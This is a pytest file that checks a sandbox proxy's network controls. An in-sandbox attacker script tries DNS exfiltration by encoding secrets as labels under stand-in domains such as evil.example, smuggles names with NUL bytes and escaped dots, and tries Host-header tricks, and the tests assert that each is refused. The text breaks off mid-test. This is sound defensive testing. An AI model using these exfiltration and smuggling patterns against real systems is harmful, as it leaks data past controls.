"""Ways out through proxy mode's network, run for real from inside a proxy-mode sandbox.

Each test starts an attacker inside (it prints STARTED first, then one RESULT line per
attack), asserts the exact outcome (the DNS rcode and records, the SOCKS5 reply code, the
HTTP status, the errno), and asserts what was looked up: the proxy's resolver log (the
supervisor's test seam, LNK_SANDBOX_TEST_RESOLVER_LOG) lists every name the supervisor
resolved, and a refused name must never be in it.

Some tests go further and give the supervisor a DNS server of the test's own as its
host's resolver: the supervisor runs in a mount namespace of its own where
/etc/resolv.conf names that server (on an address of the host's loopback), with a search
list and `ndots:5` as a Kubernetes pod has. Nothing in lnk-sandbox is told about it: it
resolves as the host resolves, and the server records every question that reached the
host's DNS, so a test sees exactly what left the host, CNAME chains included.

The limit these tests show, and that no proxy can remove: a name under an allowed
wildcard (`*.allowed.test`) is looked up, so its zone's owner sees the name asked, and the
recursive resolver the host uses follows that zone's CNAMEs wherever the owner points
them. What the sandbox controls (the name's first labels) reaches that zone's servers
and nothing else: never another zone, never a search-list suffix, never a CNAME's target
through the proxy's own stub resolver; and no other record type of an allowed name is
looked up at all.
"""

from __future__ import annotations

import dataclasses
import errno
import ipaddress
import json
import os
import random
import socket
import struct
import subprocess
import threading
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import dns.message
import dns.rcode
import dns.rdatatype
import dns.rrset
import pytest

from support.host_server import HostServer
from support.netlab import Lab
from support.sandbox import LNK, PYTHON_INSIDE, Sandbox

pytestmark = [pytest.mark.requires_bwrap, pytest.mark.requires_userns]

LOG_VARIABLE = "LNK_SANDBOX_TEST_RESOLVER_LOG"
LOCALHOST_ONLY = '[network]\nmode = "proxy"\nallow = ["localhost"]\n'
ZONE_SPEC = '[network]\nmode = "proxy"\nallow = ["*.allowed.test"]\n'
# The zone's names point at the test's servers on 127.0.0.1, which the address guard
# opens only where the spec names the address.
ZONE_TO_LOOPBACK = '[network]\nmode = "proxy"\nallow = ["*.allowed.test", "127.0.0.1"]\n'


def localhost_on(port: int) -> str:
    """`localhost` on one port: the way to one service of the host's loopback by name."""
    return f'[network]\nmode = "proxy"\nallow = ["localhost:{port}"]\n'
REFUSED = 5  # DNS rcode
NOERROR, FORMERR, SERVFAIL, NXDOMAIN, NOTIMP = 0, 1, 2, 3, 4
SOCKS_OK, SOCKS_NOT_ALLOWED, SOCKS_UNREACHABLE = 0, 2, 4
A, NS, CNAME, SOA, NULL, PTR, HINFO, MX, TXT, AAAA, SRV = 1, 2, 5, 6, 10, 12, 13, 15, 16, 28, 33
SVCB, HTTPS, IXFR, AXFR, ANY, CAA = 64, 65, 251, 252, 255, 257

# The attacker: stdlib only, run by the system's python3 inside. argv[1] is a JSON list of
# attacks, or "-" to say READY and read that list from stdin (for a test that must look
# at the run from outside first). One `RESULT <json>` line per attack, in order.
ATTACKER = r'''
import json, os, socket, struct, subprocess, sys

print("STARTED", os.getpid(), os.getuid(), flush=True)


def name_bytes(spec):
    # A list is the labels as they are; a text is split on dots, a final one the root's.
    parts = spec if isinstance(spec, list) else [p for p in spec.split(".")][:-1 if
                                                 spec.endswith(".") else None]
    return b"".join(bytes([len(p.encode("latin-1"))]) + p.encode("latin-1")
                    for p in parts) + b"\0"


def read_name(data, at):
    labels, end = [], None
    while True:
        size = data[at]
        if size & 0xC0 == 0xC0:
            end = at + 2 if end is None else end
            at = (size & 0x3F) << 8 | data[at + 1]
            continue
        at += 1
        if size == 0:
            break
        labels.append(data[at:at + size].decode("latin-1"))
        at += size
    return ".".join(labels), at if end is None else end


def read_all(sock):
    data = b""
    while True:
        try:
            chunk = sock.recv(65536)
        except ConnectionResetError:
            break
        if not chunk:
            break
        data += chunk
    return data


def dns(op):
    if "raw" in op:
        query = bytes.fromhex(op["raw"])
    else:
        questions = op.get("questions") or [[op["name"], op.get("type", 1),
                                              op.get("class", 1)]]
        query = struct.pack("!6H", 0x4C4B, op.get("flags", 0x0100), len(questions), 0, 0,
                            0) + b"".join(name_bytes(n) + struct.pack("!HH", t, c)
                                          for n, t, c in questions)
    if op.get("transport") == "tcp":
        sock = socket.create_connection(("127.0.0.1", 53), timeout=10)
        sock.sendall(struct.pack("!H", len(query)) + query)
        data = b""
        while len(data) < 2 or len(data) < 2 + struct.unpack("!H", data[:2])[0]:
            chunk = sock.recv(65536)
            if not chunk:
                break
            data += chunk
        reply = data[2:]
        if not reply:
            return {"reply": None}
    else:
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        sock.settimeout(op.get("timeout", 10))
        sock.sendto(query, ("127.0.0.1", 53))
        try:
            reply = sock.recv(65536)
        except socket.timeout:
            return {"reply": None}
    ident, flags, qd, an, ns, ar = struct.unpack("!6H", reply[:12])
    at = 12
    for _ in range(qd):
        at = read_name(reply, at)[1] + 4
    records = []
    for _ in range(an + ns + ar):
        owner, at = read_name(reply, at)
        kind, _, _, length = struct.unpack("!HHIH", reply[at:at + 10])
        body = reply[at + 10:at + 10 + length]
        if kind in (1, 28):
            data = socket.inet_ntop(socket.AF_INET if kind == 1 else socket.AF_INET6, body)
        elif kind in (2, 5, 12):
            data = read_name(reply, at + 10)[0]
        else:
            data = body.hex()
        at += 10 + length
        records.append([owner, kind, data])
    return {"id": ident == 0x4C4B, "qr": flags >> 15, "rcode": flags & 0xF,
            "records": records}


def socks(op):
    sock = socket.create_connection(("127.0.0.1", 1080), timeout=20)
    sock.sendall(b"\x05\x01\x00")
    assert sock.recv(2) == b"\x05\x00"
    kind = op["atyp"]
    if kind == 1:
        address = socket.inet_pton(socket.AF_INET, op["host"])
    elif kind == 4:
        address = socket.inet_pton(socket.AF_INET6, op["host"])
    else:
        host = op["host"].encode("latin-1")
        address = bytes([len(host)]) + host
    sock.sendall(bytes([5, 1, 0, kind]) + address + struct.pack("!H", op["port"]))
    reply = b""
    while len(reply) < 10:
        chunk = sock.recv(10 - len(reply))
        if not chunk:
            return {"reply": None}
        reply += chunk
    out = {"reply": reply[1]}
    if reply[1] == 0 and "send" in op:
        sock.sendall(op["send"].encode())
        out["response"] = read_all(sock).split(b"\r\n")[0].decode()
    return out


def http(op):
    sock = socket.create_connection(("127.0.0.1", 3128), timeout=20)
    sock.sendall(op["send"].encode("latin-1"))
    if "then" not in op:
        data = read_all(sock)
        head, _, body = data.partition(b"\r\n\r\n")
        return {"status": head.split(b"\r\n")[0].decode(), "body": body.decode()}
    head = b""
    while not head.endswith(b"\r\n\r\n"):
        chunk = sock.recv(1)  # a byte at a time: what follows is the tunnel's
        if not chunk:
            break
        head += chunk
    out = {"status": head.split(b"\r\n")[0].decode()}
    if head.startswith(b"HTTP/1.1 200"):
        sock.sendall(op["then"].encode("latin-1"))
        out["tunnel"] = read_all(sock).split(b"\r\n")[0].decode()
    return out


def getaddrinfo(op):
    try:
        found = socket.getaddrinfo(op["name"], None, type=socket.SOCK_STREAM)
    except socket.gaierror as err:
        return {"gaierror": err.errno}
    return {"addresses": sorted({info[4][0] for info in found})}


def command(op):
    done = subprocess.run(op["argv"], env={**os.environ, **op.get("env", {})},
                          capture_output=True, text=True, timeout=60)
    return {"exit": done.returncode, "stdout": done.stdout}


def connect(op):
    family = {"unix": socket.AF_UNIX, "inet": socket.AF_INET, "inet6": socket.AF_INET6}
    kind = socket.SOCK_DGRAM if op.get("udp") else socket.SOCK_STREAM
    sock = socket.socket(family[op["family"]], kind)
    sock.settimeout(5)
    target = op["path"] if op["family"] == "unix" else (op["host"], op["port"])
    try:
        sock.connect(target)
        if op.get("udp"):  # a query for the root's A record
            sock.send(bytes.fromhex("4c4b010000010000000000000000010001"))
            sock.recv(512)
    except OSError as err:
        return {"errno": err.errno or -1}
    return {"errno": 0}


def make_socket(op):
    try:
        socket.socket(op["family"], op["type"], op["proto"]).close()
    except OSError as err:
        return {"errno": err.errno}
    return {"errno": 0}


def listdir(op):
    try:
        return {"entries": sorted(os.listdir(op["path"]))}
    except OSError as err:
        return {"errno": err.errno}


def raw_tcp(op):
    sock = socket.create_connection(("127.0.0.1", op["port"]), timeout=20)
    sock.sendall(bytes.fromhex(op["send"]))
    return {"received": read_all(sock).hex()}


def read_file(op):
    try:
        with open(op["path"], "rb") as handle:
            return {"text": handle.read().decode("latin-1")}
    except OSError as err:
        return {"errno": err.errno}


def fd_targets(op):
    found = []
    for fd in os.listdir("/proc/self/fd"):
        try:
            found.append(os.readlink(f"/proc/self/fd/{fd}"))
        except OSError:
            pass
    return {"targets": found}


ACTIONS = {"dns": dns, "socks": socks, "http": http, "getaddrinfo": getaddrinfo,
           "command": command, "connect": connect, "socket": make_socket,
           "listdir": listdir, "fds": fd_targets, "raw_tcp": raw_tcp, "read": read_file}
if sys.argv[1] == "-":
    print("READY", flush=True)
    attacks = json.loads(sys.stdin.readline())
else:
    attacks = json.loads(sys.argv[1])
for attack in attacks:
    print("RESULT", json.dumps(ACTIONS[attack["op"]](attack)), flush=True)
'''


# -- what the test runs and looks at from outside -------------------------------------------


def _results(stdout: str, count: int, stderr: str) -> list[dict[str, Any]]:
    lines = stdout.splitlines()
    assert lines and lines[0].startswith("STARTED "), f"never started:\n{stderr}\n{stdout}"
    results = [json.loads(line[7:]) for line in lines if line.startswith("RESULT ")]
    assert len(results) == count, f"{len(results)} of {count} attacks ran:\n{stderr}"
    return results


def attack(sandbox: Sandbox, attacks: list[Any], *, spec: str, log: Path,
           ) -> tuple[list[dict[str, Any]], subprocess.CompletedProcess[str]]:
    """Run the attacks inside one proxy-mode sandbox; their results, and the run."""
    done = sandbox.run(PYTHON_INSIDE, "-c", ATTACKER, json.dumps(attacks), spec=spec,
                       env={LOG_VARIABLE: str(log)}, timeout=120)
    out = _results(done.stdout, len(attacks), done.stderr)
    return out, done


def asked(log: Path) -> list[str]:
    """Every name the proxy's resolver looked up, in order."""
    return log.read_text().splitlines()


@pytest.fixture
def resolver_log(sandbox: Sandbox) -> Path:
    path = sandbox.base / "resolver.log"
    path.write_text("")
    sandbox.chown(path)
    return path


@pytest.fixture
def server() -> Iterator[HostServer]:
    one = HostServer()
    yield one
    one.close()


@pytest.fixture
def other_server() -> Iterator[HostServer]:
    one = HostServer()
    yield one
    one.close()


# -- a DNS server of the test's own, as the host's resolver of the supervisor ---------------

ZONE: dict[str, list[tuple[str, str, str]]] = {
    # What a recursive resolver answers: the chain and its end in one answer.
    "www.allowed.test.": [("www.allowed.test.", "A", "127.0.0.1")],
    "chain.allowed.test.": [("chain.allowed.test.", "CNAME", "www.elsewhere.test."),
                            ("www.elsewhere.test.", "A", "127.0.0.1")],
    # What an authoritative server of the allowed zone answers: only the CNAME.
    "alias.allowed.test.": [("alias.allowed.test.", "CNAME", "target.elsewhere.test.")],
    "www.elsewhere.test.": [("www.elsewhere.test.", "A", "127.0.0.1")],
    "target.elsewhere.test.": [("target.elsewhere.test.", "A", "127.0.0.1")],
}


class HostDns:
    """A DNS server (UDP and TCP) on an address of the host's loopback, answering from
    ZONE (NXDOMAIN for anything else), recording every question it was asked."""

    def __init__(self) -> None:
        self.asked: list[tuple[str, str]] = []
        self.lock = threading.Lock()
        for _ in range(20):
            self.address = f"127.53.{random.randrange(1, 255)}.{random.randrange(1, 255)}"
            try:
                self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
                self.udp.bind((self.address, 53))
                break
            except OSError:
                self.udp.close()
        else:
            raise RuntimeError("no free address for the test's DNS server")
        self.tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.tcp.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.tcp.bind((self.address, 53))
        self.tcp.listen(64)
        self.stopping = False
        self.threads = [threading.Thread(target=self._serve_udp, daemon=True),
                        threading.Thread(target=self._serve_tcp, daemon=True)]
        for thread in self.threads:
            thread.start()

    def answer(self, wire: bytes) -> bytes:
        query = dns.message.from_wire(wire)
        question = query.question[0]
        name = question.name.to_text()
        with self.lock:
            self.asked.append((name.lower(), dns.rdatatype.to_text(question.rdtype)))
        response = dns.message.make_response(query)
        response.flags |= 0x80  # RA
        records = ZONE.get(name.lower())
        if records is None:
            response.set_rcode(dns.rcode.NXDOMAIN)
        for owner, kind, data in records or []:
            if kind == "CNAME" or kind == dns.rdatatype.to_text(question.rdtype):
                response.answer.append(dns.rrset.from_text(owner, 30, "IN", kind, data))
        return response.to_wire()

    def _serve_udp(self) -> None:
        while not self.stopping:
            try:
                data, peer = self.udp.recvfrom(65536)
                self.udp.sendto(self.answer(data), peer)
            except OSError:
                return
            except Exception:
                continue

    def _serve_tcp(self) -> None:
        while not self.stopping:
            try:
                conn, _ = self.tcp.accept()
            except OSError:
                return
            with conn:
                try:
                    conn.settimeout(10)
                    head = conn.recv(2)
                    size = struct.unpack("!H", head)[0]
                    data = b""
                    while len(data) < size:
                        data += conn.recv(size - len(data))
                    reply = self.answer(data)
                    conn.sendall(struct.pack("!H", len(reply)) + reply)
                except Exception:
                    continue

    def names(self) -> set[str]:
        with self.lock:
            return {name for name, _ in self.asked}

    def close(self) -> None:
        self.stopping = True
        self.udp.close()
        self.tcp.shutdown(socket.SHUT_RDWR)
        self.tcp.close()

    def supervised(self, sandbox: Sandbox) -> Sandbox:
        """The sandbox's runs, with a supervisor whose /etc/resolv.conf names this server
        (a mount namespace of its own, made by root): search list and ndots as a pod's."""
        conf = sandbox.base / "host-resolv.conf"
        conf.write_text(f"nameserver {self.address}\nsearch corp.test svc.corp.test\n"
                        "options ndots:5 timeout:2 attempts:1\n")
        conf.chmod(0o644)
        prefix = ("unshare", "--mount", "--propagation", "private", "sh", "-c",
                  'mount --bind "$0" /etc/resolv.conf && exec "$@"', str(conf))
        return dataclasses.replace(sandbox, who=dataclasses.replace(
            sandbox.who, prefix=(*prefix, *sandbox.who.prefix)))


@pytest.fixture
def host_dns() -> Iterator[HostDns]:
    if os.geteuid() != 0:
        pytest.skip("giving the supervisor a resolv.conf of its own needs root")
    server = HostDns()
    yield server
    server.close()


def _secret() -> str:
    return "s" + uuid.uuid4().hex[:20]


# -- DNS exfiltration by names ---------------------------------------------------------------


def test_dns_exfiltration_by_name_is_refused_and_never_looked_up(
        sandbox: Sandbox, resolver_log: Path) -> None:
    secret = _secret()
    name = f"{secret}.evil.example"
    attacks = [
        *({"op": "dns", "name": name, "type": kind, "transport": transport}
          for transport in ("udp", "tcp") for kind in (A, AAAA)),
        {"op": "dns", "name": name.upper() + ".", "type": A},  # the same, written otherwise
        {"op": "getaddrinfo", "name": name},  # glibc's resolver, over UDP
        {"op": "command", "argv": ["getent", "ahosts", name]},
        # glibc over TCP (use-vc), and with a search list the program set itself.
        {"op": "command", "argv": ["getent", "ahostsv6", name],
         "env": {"RES_OPTIONS": "use-vc"}},
        {"op": "command", "argv": ["getent", "hosts", secret],
         "env": {"LOCALDOMAIN": "evil.example", "RES_OPTIONS": "ndots:1"}},
    ]
    results, done = attack(sandbox, attacks, spec=LOCALHOST_ONLY, log=resolver_log)
    for result in results[:5]:
        assert result == {"id": True, "qr": 1, "rcode": REFUSED, "records": []}
    # glibc takes REFUSED as "try again later": EAI_AGAIN; getent says 2 (not found).
    assert results[5] == {"gaierror": socket.EAI_AGAIN}
    assert results[6:] == [{"exit": 2, "stdout": ""}] * 3
    assert asked(resolver_log) == []
    assert done.stderr.count(f"lnk-sandbox: refused {name} (not in [network] allow)") == 1
    assert done.returncode == 0


def test_dns_exfiltration_by_name_never_leaves_the_host(
        sandbox: Sandbox, resolver_log: Path, host_dns: HostDns) -> None:
    """The same with the host's DNS watched: nothing of the refused name reaches it."""
    secret = _secret()
    name = f"{secret}.evil.test"
    attacks = [
        *({"op": "dns", "name": name, "type": kind, "transport": transport}
          for transport in ("udp", "tcp") for kind in (A, AAAA, TXT, ANY)),
        {"op": "command", "argv": ["getent", "ahosts", name]},
    ]
    results, _ = attack(host_dns.supervised(sandbox), attacks, spec=ZONE_SPEC,
                        log=resolver_log)
    assert [r["rcode"] for r in results[:8]] == [REFUSED] * 8
    assert results[8] == {"exit": 2, "stdout": ""}
    assert asked(resolver_log) == []
    assert host_dns.asked == []


def test_a_name_under_an_allowed_wildcard_reaches_that_zone_only(
        sandbox: Sandbox, resolver_log: Path, host_dns: HostDns) -> None:
    """The stated limit: `<secret>.allowed.test` is looked up, so the allowed zone's
    owner sees it; nothing else does. Not with the host's search list appended (a
    refused name: `<secret>.allowed.test.corp.test`), not as another record type."""
    secret = _secret()
    name = f"{secret}.allowed.test"
    attacks = [
        {"op": "dns", "name": name, "type": A},
        {"op": "dns", "name": name, "type": AAAA, "transport": "tcp"},
        {"op": "dns", "name": "www.allowed.test", "type": A},
        {"op": "dns", "name": "www.allowed.test", "type": AAAA},
        {"op": "getaddrinfo", "name": "www.allowed.test"},
        *({"op": "dns", "name": name, "type": kind} for kind in (TXT, MX, ANY, CNAME, SRV)),
    ]
    results, _ = attack(host_dns.supervised(sandbox), attacks, spec=ZONE_TO_LOOPBACK,
                        log=resolver_log)
    assert results[0] == {"id": True, "qr": 1, "rcode": NXDOMAIN, "records": []}
    assert results[1] == {"id": True, "qr": 1, "rcode": NXDOMAIN, "records": []}
    assert results[2]["records"] == [["www.allowed.test", A, "127.0.0.1"]]
    assert results[3] == {"id": True, "qr": 1, "rcode": NOERROR, "records": []}
    assert results[4] == {"addresses": ["127.0.0.1"]}
    for result in results[5:]:
        assert result == {"id": True, "qr": 1, "rcode": NOERROR, "records": []}
    assert sorted(set(asked(resolver_log))) == sorted({name, "www.allowed.test"})
    # Only ever the name asked, as an absolute name, for an address.
    assert host_dns.names() == {f"{name}.", "www.allowed.test."}
    assert {kind for _, kind in host_dns.asked} == {"A", "AAAA"}


# -- other record types ----------------------------------------------------------------------

OTHER_TYPES = (TXT, MX, ANY, CNAME, PTR, SRV, NS, SOA, NULL, HINFO, CAA, HTTPS, SVCB)


def test_other_record_types_of_a_refused_name_are_refused(
        sandbox: Sandbox, resolver_log: Path) -> None:
    name = f"{_secret()}.evil.example"
    attacks = [{"op": "dns", "name": name, "type": kind, "transport": transport}
               for kind in OTHER_TYPES for transport in ("udp", "tcp")]
    attacks += [
        {"op": "dns", "name": name, "type": AXFR, "transport": "tcp"},
        {"op": "dns", "name": name, "type": IXFR, "transport": "tcp"},
        {"op": "dns", "name": "1.0.0.127.in-addr.arpa", "type": PTR},
        {"op": "dns", "name": "1.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0"
                              ".ip6.arpa", "type": PTR},
        {"op": "dns", "name": f"_{_secret()}._tcp.evil.example", "type": SRV},
    ]
    results, done = attack(sandbox, attacks, spec=LOCALHOST_ONLY, log=resolver_log)
    for one, result in zip(attacks, results, strict=True):
        assert result == {"id": True, "qr": 1, "rcode": REFUSED, "records": []}, one
    assert asked(resolver_log) == []
    assert "lnk-sandbox: refused 1.0.0.127.in-addr.arpa (not in [network] allow)" \
        in done.stderr


def test_an_allowed_name_is_no_channel_for_other_record_types(
        sandbox: Sandbox, resolver_log: Path) -> None:
    """Anything but A/AAAA of an allowed name: no records, and nothing looked up."""
    attacks = [{"op": "dns", "name": "localhost", "type": kind, "transport": transport}
               for kind in OTHER_TYPES for transport in ("udp", "tcp")]
    attacks += [{"op": "dns", "name": "localhost", "type": AXFR, "transport": "tcp"}]
    results, _ = attack(sandbox, attacks, spec=LOCALHOST_ONLY, log=resolver_log)
    for one, result in zip(attacks, results, strict=True):
        assert result == {"id": True, "qr": 1, "rcode": NOERROR, "records": []}, one
    assert asked(resolver_log) == []


def test_other_record_types_of_an_allowed_name_never_reach_the_hosts_dns(
        sandbox: Sandbox, resolver_log: Path, host_dns: HostDns) -> None:
    attacks = [{"op": "dns", "name": f"{_secret()}.allowed.test", "type": kind}
               for kind in OTHER_TYPES]
    attacks += [{"op": "dns", "name": "chain.allowed.test", "type": CNAME}]
    results, _ = attack(host_dns.supervised(sandbox), attacks, spec=ZONE_SPEC,
                        log=resolver_log)
    for one, result in zip(attacks, results, strict=True):
        assert result == {"id": True, "qr": 1, "rcode": NOERROR, "records": []}, one
    assert asked(resolver_log) == []
    assert host_dns.asked == []


def test_queries_the_helper_does_not_serve(sandbox: Sandbox, resolver_log: Path) -> None:
    """Other classes, opcodes, two questions, a response, garbage: nothing asked."""
    secret = f"{_secret()}.evil.example"
    attacks = [
        {"op": "dns", "name": "version.bind", "type": TXT, "class": 3},  # CHAOS
        {"op": "dns", "name": "localhost", "type": A, "class": 3},
        {"op": "dns", "name": "localhost", "type": A, "class": 255},  # class ANY
        {"op": "dns", "questions": [["localhost", A, 1], [secret, A, 1]]},
        {"op": "dns", "name": secret, "type": A, "flags": 0x2800},  # UPDATE, zone not SOA
        {"op": "dns", "name": secret, "type": SOA, "flags": 0x2800},  # UPDATE
        {"op": "dns", "name": secret, "type": SOA, "flags": 0x2000},  # NOTIFY
        {"op": "dns", "name": secret, "type": A, "flags": 0x8180, "timeout": 2},  # a reply
        {"op": "dns", "raw": "4c4b0100000100000000000003" + secret.encode().hex()[:20]},
        {"op": "dns", "raw": "4c4b"},
        {"op": "dns", "name": ["a" * 64, "evil", "example"], "type": A},  # label too long
    ]
    results, _ = attack(sandbox, attacks, spec=LOCALHOST_ONLY, log=resolver_log)
    refused = {"id": True, "qr": 1, "rcode": REFUSED, "records": []}
    notimp = {"id": True, "qr": 1, "rcode": NOTIMP, "records": []}
    formerr = {"id": True, "qr": 1, "rcode": FORMERR, "records": []}
    assert results == [refused, refused, refused, notimp, formerr, notimp, notimp,
                       {"reply": None}, formerr, {"reply": None}, formerr]
    assert asked(resolver_log) == []


# -- CNAME chains ----------------------------------------------------------------------------


def test_a_cname_chain_is_never_followed_by_the_proxy_nor_shown_to_the_sandbox(
        sandbox: Sandbox, resolver_log: Path, host_dns: HostDns,
        server: HostServer) -> None:
    """`chain.allowed.test` is a CNAME to `www.elsewhere.test` (not allowed).

    The host's resolver (here the test's server, standing for the recursive resolver the
    host uses) answers with the chain; the supervisor's stub asks only the allowed name,
    the sandbox gets an A record under the name it asked and never the chain, and the
    connection goes to the address found. `alias.allowed.test` is a CNAME with no
    address in the answer: the stub does not chase it, so the target is never asked.
    The limit, stated: a real recursive resolver follows the allowed zone's CNAMEs to
    wherever its owner points them, and nothing on this host can stop that.
    """
    attacks = [
        {"op": "dns", "name": "chain.allowed.test", "type": A},
        {"op": "dns", "name": "chain.allowed.test", "type": AAAA, "transport": "tcp"},
        {"op": "dns", "name": "alias.allowed.test", "type": A},
        {"op": "dns", "name": "www.elsewhere.test", "type": A},
        {"op": "http", "send": f"GET http://chain.allowed.test:{server.port}/chained "
                               "HTTP/1.1\r\nHost: x\r\n\r\n"},
        {"op": "socks", "atyp": 3, "host": "www.elsewhere.test", "port": server.port},
    ]
    results, _ = attack(host_dns.supervised(sandbox), attacks, spec=ZONE_TO_LOOPBACK,
                        log=resolver_log)
    assert results[0] == {"id": True, "qr": 1, "rcode": NOERROR,
                          "records": [["chain.allowed.test", A, "127.0.0.1"]]}
    assert results[1] == {"id": True, "qr": 1, "rcode": NOERROR, "records": []}
    assert results[2] == {"id": True, "qr": 1, "rcode": NXDOMAIN, "records": []}
    assert results[3] == {"id": True, "qr": 1, "rcode": REFUSED, "records": []}
    assert results[4]["status"] == "HTTP/1.1 200 OK"
    assert results[5] == {"reply": SOCKS_NOT_ALLOWED}
    assert server.requests == [("/chained", f"chain.allowed.test:{server.port}")]
    assert set(asked(resolver_log)) == {"chain.allowed.test", "alias.allowed.test"}
    assert host_dns.names() == {"chain.allowed.test.", "alias.allowed.test."}


# -- names: the proxy decides on the name asked, and resolves only that name ----------------


def test_names_that_are_not_host_names_are_refused_and_never_looked_up(
        sandbox: Sandbox, resolver_log: Path, host_dns: HostDns) -> None:
    """Under an allowed wildcard, a name that is not a host name is refused before any
    lookup: a NUL ends the name for the C library (`<secret>.evil.test\\0.allowed.test`
    would be looked up as `<secret>.evil.test`), a dot inside a label (`x\\.allowed.test`
    is the name `x.allowed` in `test`), a label of 64 bytes, a name of 254 or 255 bytes,
    bytes no host name has (UTF-8, %, a space, a control character)."""
    secret = _secret()
    label = "a" * 63
    long_name = f"{label}.{label}.{label}.{'b' * 48}.allowed.test"  # 253: the longest
    assert len(long_name) == 253
    bad_names = [
        f"{secret}.evil.test\0.allowed.test",
        f"{secret}.evil.test\0",
        f"{secret}\\.allowed.test",
        f"{secret}\\046allowed.test",
        f"{'c' * 64}.allowed.test",
        "c" + long_name,  # 254
        "cd" + long_name,  # 255
        "b\u00c3\u00bccher.allowed.test",  # bücher, as UTF-8 bytes
        f"{secret}%2eevil%2etest.allowed.test",
        f"{secret} evil.allowed.test",
        f"{secret}\x1b[2J.allowed.test",
        f"{secret}..allowed.test",
    ]
    attacks: list[dict[str, Any]] = [{"op": "socks", "atyp": 3, "host": name, "port": 80}
                                     for name in bad_names]
    attacks += [
        {"op": "http", "send": f"CONNECT {secret}%00.evil.test.allowed.test:443 HTTP/1.1\r\n"
                               "Host: x\r\n\r\n"},
        {"op": "http", "send": f"GET http://{secret}\\.allowed.test/ HTTP/1.1\r\n"
                               "Host: x\r\n\r\n"},
        {"op": "dns", "name": [f"{secret}.allowed", "test"], "type": A},  # a dot in a label
        {"op": "dns", "name": [f"{secret}\0", "allowed", "test"], "type": A},
        {"op": "dns", "name": [f"{secret}.evil.test\0", "allowed", "test"], "type": A},
        {"op": "dns", "name": ["b\u00c3\u00bccher", "allowed", "test"], "type": A},
        # Valid names of the zone: looked up, and only they.
        {"op": "socks", "atyp": 3, "host": long_name, "port": 80},
        {"op": "socks", "atyp": 3, "host": "xn--bcher-kva.allowed.test", "port": 80},
        {"op": "dns", "name": "XN--BCHER-KVA.Allowed.Test.", "type": A},
    ]
    results, done = attack(host_dns.supervised(sandbox), attacks, spec=ZONE_SPEC,
                           log=resolver_log)
    bad = len(bad_names)
    assert results[:bad] == [{"reply": SOCKS_NOT_ALLOWED}] * bad
    assert results[bad]["status"] == "HTTP/1.1 403 Forbidden"
    assert results[bad + 1]["status"] == "HTTP/1.1 403 Forbidden"
    refused = {"id": True, "qr": 1, "rcode": REFUSED, "records": []}
    assert results[bad + 2:bad + 6] == [refused] * 4
    assert results[bad + 6:bad + 8] == [{"reply": SOCKS_UNREACHABLE}] * 2
    assert results[bad + 8] == {"id": True, "qr": 1, "rcode": NXDOMAIN, "records": []}
    assert asked(resolver_log) == [long_name, "xn--bcher-kva.allowed.test",
                                   "xn--bcher-kva.allowed.test"]
    assert host_dns.names() == {f"{long_name}.", "xn--bcher-kva.allowed.test."}
    # A refusal is said in printable form: nothing of the name reaches the terminal raw.
    assert "\0" not in done.stderr and "\x1b" not in done.stderr


def test_trailing_dots_upper_case_and_localhost_variants(
        sandbox: Sandbox, resolver_log: Path, server: HostServer) -> None:
    """`localhost` allowed: its spellings reach the host's localhost, resolved as
    `localhost`; every other name near it is refused and never looked up."""
    port = server.port
    same = ["localhost.", "LOCALHOST", "LocalHost.", "localhost.."]  # all `localhost`
    near = ["localhost.localdomain", "foo.localhost", "localhost.evil.example",
            "xn--localhost", "localhost\0.evil.example", "\uff4c\uff4f\uff43\uff41\uff4c"
            "\uff48\uff4f\uff53\uff54".encode().decode("latin-1"), "127.1", "2130706433",
            "0x7f000001", "127.0.0.1.", "[127.0.0.1]", "::1", "[::1]",
            "::ffff:127.0.0.1", "localhost%lo", "ip6-localhost"]
    attacks: list[dict[str, Any]] = [
        {"op": "socks", "atyp": 3, "host": name, "port": port,
         "send": f"GET /{index} HTTP/1.0\r\n\r\n"} for index, name in enumerate(same)]
    attacks += [{"op": "socks", "atyp": 3, "host": name, "port": port} for name in near]
    attacks += [
        {"op": "http", "send": f"GET http://LOCALHOST.:{port}/http HTTP/1.1\r\nHost: x\r\n\r\n"},
        {"op": "http", "send": f"GET http://localhost.localdomain:{port}/ HTTP/1.1\r\n"
                               "Host: localhost\r\n\r\n"},
        {"op": "http", "send": f"GET http://[::1]:{port}/ HTTP/1.1\r\nHost: localhost\r\n\r\n"},
        {"op": "dns", "name": "LOCALHOST.", "type": A},
        {"op": "dns", "name": "localhost.localdomain", "type": A},
        {"op": "dns", "name": "ip6-localhost", "type": AAAA},
    ]
    results, _ = attack(sandbox, attacks, spec=localhost_on(port), log=resolver_log)
    assert results[:len(same)] == [{"reply": SOCKS_OK, "response": "HTTP/1.0 200 OK"}] * 4
    rest = results[len(same):]
    assert rest[:len(near)] == [{"reply": SOCKS_NOT_ALLOWED}] * len(near)
    rest = rest[len(near):]
    assert rest[0]["status"] == "HTTP/1.1 200 OK"
    assert [r["status"] for r in rest[1:3]] == ["HTTP/1.1 403 Forbidden"] * 2
    assert rest[3] == {"id": True, "qr": 1, "rcode": NOERROR,
                       "records": [["LOCALHOST", A, "127.0.0.1"]]}
    assert rest[4:] == [{"id": True, "qr": 1, "rcode": REFUSED, "records": []}] * 2
    assert server.requests == [("/0", None), ("/1", None), ("/2", None), ("/3", None),
                               ("/http", f"LOCALHOST.:{port}")]  # the URL's, as written
    assert asked(resolver_log) == ["localhost"] * 6


# -- HTTP: the Host header against the URI and the CONNECT target -----------------------------


def test_http_decides_on_the_uri_it_connects_to_never_the_host_header(
        sandbox: Sandbox, resolver_log: Path, server: HostServer,
        other_server: HostServer) -> None:
    port, other = server.port, other_server.port
    evil = f"{_secret()}.evil.example"
    attacks = [
        # The URI allowed, the Host header not: the URI's host is reached, with its Host.
        {"op": "http", "send": f"GET http://localhost:{port}/uri-allowed HTTP/1.1\r\n"
                               f"Host: {evil}\r\n\r\n"},
        {"op": "http", "send": f"GET http://localhost:{port}/twice HTTP/1.1\r\n"
                               f"Host: {evil}\r\nHost: localhost:{other}\r\n\r\n"},
        # The reverse: refused, and nothing looked up or reached.
        {"op": "http", "send": f"GET http://{evil}:{port}/uri-refused HTTP/1.1\r\n"
